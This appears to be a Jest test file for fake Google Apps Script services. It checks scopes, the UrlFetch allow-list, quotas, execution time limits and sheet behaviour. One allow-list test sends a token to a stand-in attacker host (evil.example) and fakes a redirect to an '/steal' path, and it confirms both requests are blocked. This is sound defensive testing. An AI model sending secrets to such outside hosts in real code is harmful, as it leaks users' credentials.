// The fakes are as strict as Google: scopes per method from the manifest, the UrlFetch allow-list
// and daily quota, null document services without a document, a clock that prices every call and
// stops an execution at six minutes, and both behaviours of an apostrophe in a plain-text cell.
import { createGoogleFakes } from '../../fakes/google';
import { DEFAULT_COST_MODEL, EXECUTION_LIMIT_MS, FREE } from '../../fakes/google/cost';
import { PROJECT_MANIFEST } from '../../fakes/google/manifest';
import { allowedBy } from '../../fakes/google/url-fetch';

const USER = 'seller@example.com';
const ok = () => ({ status: 200, headers: {}, body: '{}' });

describe('scopes', () => {
  it("refuses a method whose scope the manifest's explicit list lacks, with Google's message", () => {
    const world = createGoogleFakes({ cost: FREE, manifest: { oauthScopes: ['https://www.googleapis.com/auth/spreadsheets.currentonly'] } });
    const g = world.globalsFor({ user: USER });
    expect(() => g.Session.getActiveUser()).toThrow(
      'Specified permissions are not sufficient to call Session.getActiveUser. Required permissions: https://www.googleapis.com/auth/userinfo.email',
    );
    expect(() => g.UrlFetchApp.fetch('https://api.xero.com/x')).toThrow(
      'Specified permissions are not sufficient to call UrlFetchApp.fetch. Required permissions: https://www.googleapis.com/auth/script.external_request',
    );
    expect(() => g.SpreadsheetApp.getUi().showSidebar(g.HtmlService.createHtmlOutput('x'))).toThrow(
      'Specified permissions are not sufficient to call Ui.showSidebar. Required permissions: https://www.googleapis.com/auth/script.container.ui',
    );
    // Scopes not needed: the temporary key, properties, the menu.
    expect(g.Session.getTemporaryActiveUserKey()).toMatch(/\S+/);
    g.PropertiesService.getUserProperties().setProperty('k', 'v');
    g.SpreadsheetApp.getUi().createAddonMenu().addItem('A', 'a').addToUi();
    expect(g.SpreadsheetApp.getActiveSpreadsheet().getSheets()).toHaveLength(1);
  });

  it('names every scope that would do, as Google does for the spreadsheet methods', () => {
    const g = createGoogleFakes({ cost: FREE, manifest: { oauthScopes: [] } }).globalsFor({ user: USER });
    expect(() => g.SpreadsheetApp.getActiveSpreadsheet()).toThrow(
      'Required permissions: (https://www.googleapis.com/auth/spreadsheets.currentonly || https://www.googleapis.com/auth/spreadsheets)',
    );
  });

  it("runs under the project's own appsscript.json by default, and grants everything without explicit scopes", () => {
    expect(PROJECT_MANIFEST.oauthScopes).toContain('https://www.googleapis.com/auth/userinfo.email');
    const g = createGoogleFakes({ cost: FREE, manifest: {} }).globalsFor({ user: USER });
    expect(g.Session.getActiveUser().getEmail()).toBe(USER);
  });
});

describe('UrlFetch allow-list and quota', () => {
  it("matches Google's prefix rules", () => {
    const prefixes = ['https://api.xero.com/', 'https://example.com/foo', 'https://*.example.org/'];
    expect(allowedBy(prefixes, 'https://api.xero.com/api.xro/2.0/Invoices?where=x')).toBe(true);
    expect(allowedBy(prefixes, 'https://example.com/foo')).toBe(true);
    expect(allowedBy(prefixes, 'https://example.com/foo/bar')).toBe(true);
    expect(allowedBy(prefixes, 'https://example.com/foo?bar')).toBe(true);
    expect(allowedBy(prefixes, 'https://example.com/foobar')).toBe(false);
    expect(allowedBy(prefixes, 'https://example.com/FOO')).toBe(false);
    expect(allowedBy(prefixes, 'https://a.example.org/x')).toBe(true);
    expect(allowedBy(prefixes, 'http://api.xero.com/x')).toBe(false);
    expect(allowedBy(prefixes, 'https://identity.xero.com/connect/token')).toBe(false);
  });

  it('refuses a URL outside the allow-list, and a redirect that leaves it, before anything is sent', () => {
    const seen: string[] = [];
    const world = createGoogleFakes({
      cost: FREE,
      urlFetch: (request) => {
        seen.push(request.url);
        return request.url.includes('/moved') ? { status: 302, headers: { location: 'https://evil.example/steal' }, body: '' } : ok();
      },
    });
    const g = world.globalsFor({ user: USER });
    expect(() => g.UrlFetchApp.fetch('https://evil.example/x?token=secret')).toThrow(
      'Request to https://evil.example/x? failed because the URL has not been whitelisted in the script manifest.',
    );
    expect(seen).toEqual([]);
    expect(() => g.UrlFetchApp.fetch('https://api.xero.com/moved')).toThrow('https://evil.example/steal failed because the URL has not been whitelisted');
    expect(seen).toEqual(['https://api.xero.com/moved']);
    expect(g.UrlFetchApp.fetch('https://api.xero.com/moved', { followRedirects: false }).getResponseCode()).toBe(302);
  });

  it('stops at the daily quota per user and starts again 24 hours after the first call', () => {
    const world = createGoogleFakes({ cost: FREE, urlFetchCallsPerDay: 2, urlFetch: ok });
    const g = world.globalsFor({ user: USER });
    g.UrlFetchApp.fetch('https://api.xero.com/a');
    world.advanceClock(60_000);
    g.UrlFetchApp.fetch('https://api.xero.com/b');
    expect(() => g.UrlFetchApp.fetch('https://api.xero.com/c')).toThrow('Service invoked too many times for one day: urlfetch.');
    expect(world.globalsFor({ user: 'other@example.com' }).UrlFetchApp.fetch('https://api.xero.com/d').getResponseCode()).toBe(200);
    world.advanceClock(24 * 3600_000 - 60_000);
    expect(g.UrlFetchApp.fetch('https://api.xero.com/e').getResponseCode()).toBe(200);
  });
});

describe('an execution without a document (Google /usercallback)', () => {
  it('has null document properties, lock, cache and spreadsheet, and no Ui', () => {
    const g = createGoogleFakes({ cost: FREE }).globalsFor({ user: USER, withoutDocument: true });
    expect(g.PropertiesService.getDocumentProperties()).toBeNull();
    expect(g.LockService.getDocumentLock()).toBeNull();
    expect(g.CacheService.getDocumentCache()).toBeNull();
    expect(g.SpreadsheetApp.getActiveSpreadsheet()).toBeNull();
    expect(() => g.SpreadsheetApp.getUi()).toThrow('Cannot call SpreadsheetApp.getUi() from this context.');
    g.PropertiesService.getUserProperties().setProperty('k', 'v');
    expect(g.LockService.getUserLock().tryLock(10)).toBe(true);
  });
});

describe('the clock prices every call', () => {
  it('charges a Sheets data call its round trip plus its cells, and records the largest call', () => {
    const world = createGoogleFakes();
    const g = world.globalsFor({ user: USER });
    const sheet = g.SpreadsheetApp.getActiveSpreadsheet().getActiveSheet();
    const range = sheet.getRange(1, 1, 100, 10);
    const before = world.now();
    range.setValues(Array.from({ length: 100 }, () => new Array<number>(10).fill(1)));
    expect(world.now() - before).toBeCloseTo(DEFAULT_COST_MODEL.sheetsDataCallMs + 1000 * DEFAULT_COST_MODEL.sheetsCellMs, 6);
    sheet.getRange(1, 1, 2, 2).getValues();
    expect(world.calls.largestCall()).toEqual({ name: 'Range.setValues', cells: 1000 });
    expect(world.calls.cells()).toBe(1004);
  });

  it('charges a change to rows its round trip plus the cells of those rows, counted apart from the cells calls read or write', () => {
    const world = createGoogleFakes();
    const g = world.globalsFor({ user: USER });
    const sheet = g.SpreadsheetApp.getActiveSpreadsheet().getActiveSheet();
    const [columns, last] = [sheet.getMaxColumns(), sheet.getMaxRows()];
    for (const [change, rows] of [[() => sheet.insertRowsAfter(last, 6500), 6500], [() => sheet.hideRows(2, 300), 300], [() => sheet.showRows(2), 1], [() => sheet.deleteRows(2, 6500), 6500]] as const) {
      const before = world.now();
      change();
      expect(world.now() - before).toBeCloseTo(DEFAULT_COST_MODEL.sheetsDataCallMs + rows * columns * DEFAULT_COST_MODEL.sheetsCellMs, 3);
    }
    expect(world.calls.largestRowChange()).toEqual({ name: 'Sheet.insertRowsAfter', cells: 6500 * columns });
    expect(world.calls.largestCall().cells).toBe(0);
  });

  it('stops an execution that passes six minutes, and ending it reports the overrun', () => {
    const world = createGoogleFakes({ cost: { sheetsCellMs: 1 } });
    const g = world.globalsFor({ user: USER });
    const sheet = g.SpreadsheetApp.getActiveSpreadsheet().getActiveSheet();
    const write = () => sheet.getRange(1, 1, 1000, 26).setValues(Array.from({ length: 1000 }, () => new Array<string>(26).fill('x')));
    for (let i = 0; i < 13; i++) write(); // 26 s each: 338 s
    expect(write).toThrow('Exceeded maximum execution time');
    expect(() => world.endExecution(g)).toThrow(/past Apps Script's 6 minutes/);
    // A new execution starts its own six minutes.
    world.run(USER, (h) => h.SpreadsheetApp.getActiveSpreadsheet().getActiveSheet().getRange(1, 1).getValue());
  });
});

describe('a slow answer', () => {
  // What the Xero sandbox's `slow` faults call, through every harness (`sleep: world.spend`).
  const slowXero = (world: ReturnType<typeof createGoogleFakes>, ms: number) => () => {
    world.spend(ms);
    return { status: 200, headers: {}, body: '{}' };
  };

  it('spends the script’s time: the wait counts against the execution’s six minutes, and time a test lets pass does not', () => {
    const world = createGoogleFakes({ cost: { ...FREE, executionLimitMs: EXECUTION_LIMIT_MS } });
    world.urlFetch = slowXero(world, 7 * 60_000);
    const g = world.globalsFor({ user: USER });
    g.UrlFetchApp.fetch('https://api.xero.com/api.xro/2.0/Organisation');
    expect(world.elapsed(g)).toBe(7 * 60_000);
    expect(() => world.endExecution(g)).toThrow(/spent 420 s, past Apps Script's 6 minutes/);
    const h = world.globalsFor({ user: USER });
    world.advanceClock(7 * 60_000);
    expect(world.elapsed(h)).toBe(0);
    world.endExecution(h);
  });

  it('stops the script at its next call once the wait passed six minutes', () => {
    const world = createGoogleFakes({ cost: { ...FREE, executionLimitMs: EXECUTION_LIMIT_MS } });
    world.urlFetch = slowXero(world, 6 * 60_000 + 1);
    const g = world.globalsFor({ user: USER });
    g.UrlFetchApp.fetch('https://api.xero.com/api.xro/2.0/Organisation');
    expect(() => g.PropertiesService.getUserProperties().getProperty('k')).toThrow('Exceeded maximum execution time');
  });
});

describe('an apostrophe in a plain-text (@) cell', () => {
  function written(mode: 'keep' | 'strip') {
    const g = createGoogleFakes({ cost: FREE, apostropheInTextCells: mode }).globalsFor({ user: USER });
    const sheet = g.SpreadsheetApp.getActiveSpreadsheet().getActiveSheet();
    sheet.getRange(1, 1, 1, 2).setNumberFormats([['@', 'General']]);
    sheet.getRange(1, 1, 1, 2).setValues([["'12.34", "'12.34"]]);
    return sheet.getRange(1, 1, 1, 2).getValues()[0];
  }

  it('is kept or stripped as the world says; a General cell always strips it', () => {
    expect(written('strip')).toEqual(['12.34', '12.34']);
    expect(written('keep')).toEqual(["'12.34", '12.34']);
  });
});

describe('hidden rows', () => {
  it('hide and show, move with inserted rows, and are counted by inspection', () => {
    const world = createGoogleFakes({ cost: FREE });
    const sheet = world.globalsFor({ user: USER }).SpreadsheetApp.getActiveSpreadsheet().getActiveSheet();
    sheet.hideRows(5, 3);
    sheet.insertRowsBefore(1, 2);
    expect([sheet.isRowHiddenByUser(6), sheet.isRowHiddenByUser(7), sheet.isRowHiddenByUser(10)]).toEqual([false, true, false]);
    expect(world.inspect.sheet('Sheet1').hiddenRows).toEqual([7, 8, 9]);
    sheet.showRows(7, 3);
    expect(world.inspect.sheet('Sheet1').hiddenRows).toEqual([]);
  });
});
